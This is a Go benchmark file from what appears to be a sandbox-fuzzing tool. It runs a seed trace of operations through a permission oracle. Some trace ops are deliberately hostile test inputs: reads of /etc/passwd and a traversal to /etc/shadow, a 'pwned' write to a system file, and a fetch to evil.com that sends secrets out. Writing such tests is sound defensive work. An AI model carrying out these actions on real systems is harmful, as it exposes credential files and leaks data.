package oracle

import (
	"testing"

	"github.com/sbxfuzz/sbxfuzz/attack"
	"github.com/sbxfuzz/sbxfuzz/core"
)

// seedTraceOps are the first seven ops of the SPEC §10 worked trace, the mix
// core's BenchmarkSeedTrace runs bare.
var seedTraceOps = []core.Op{
	{Kind: core.OpRead, Args: []string{"/work/data.txt"}},
	{Kind: core.OpRead, Args: []string{"/etc/passwd"}},
	{Kind: core.OpRead, Args: []string{"/work/../etc/shadow"}},
	{Kind: core.OpWrite, Args: []string{"/work/out/report.txt", "done"}},
	{Kind: core.OpWrite, Args: []string{"/system/boot.cfg", "pwned"}},
	{Kind: core.OpFetch, Args: []string{"api.internal", "/status"}},
	{Kind: core.OpFetch, Args: []string{"evil.com", "/steal?d=secrets"}},
}

func seedGrant(b core.Budgets) core.Grant {
	return core.MustGrant(core.GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/out/"},
		NetHosts: []string{"api.internal"}, Tools: []string{"summarize"},
		Budgets: b,
	})
}

var seedWorld = core.WorldSpec{
	Files:  []core.File{{Path: "/work/data.txt", Data: "hello"}},
	Routes: []core.Route{{Host: "api.internal", Path: "/status", Body: "ok"}},
	Clock:  core.TickClock{Start: 0, Step: 1},
}

// BenchmarkCheckedSeedTrace is BenchmarkSeedTrace with the oracle watching:
// every per-step check and the model after every op.
func BenchmarkCheckedSeedTrace(b *testing.B) {
	g := seedGrant(core.Budgets{MaxOps: 1 << 62, MaxWall: 1 << 62, MaxOutputBytes: 1 << 62})
	var cov Coverage
	r := Watch(core.ReferenceFactory, g, seedWorld, &cov)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		k := i % len(seedTraceOps)
		r.Step(seedTraceOps[k], attack.Benign)
		if k == 0 && r.world.JournalLen() > 4096 {
			r.world.ResetJournal()
		}
	}
	b.StopTimer()
	if len(r.Findings()) > 0 {
		b.Fatal(r.Findings())
	}
}

// BenchmarkModelSeedTrace is the model alone on BenchmarkCheckedSeedTrace's
// ops: what predicting SPEC §5 costs an op, without the sandbox or the
// checks.
func BenchmarkModelSeedTrace(b *testing.B) {
	g := seedGrant(core.Budgets{MaxOps: 1 << 62, MaxWall: 1 << 62, MaxOutputBytes: 1 << 62})
	m := newModel(g, newModelBase(seedWorld))
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		if res, _ := m.predict(seedTraceOps[i%len(seedTraceOps)]); res.Kind == core.Invalid {
			b.Fatal("no verdict")
		}
	}
}
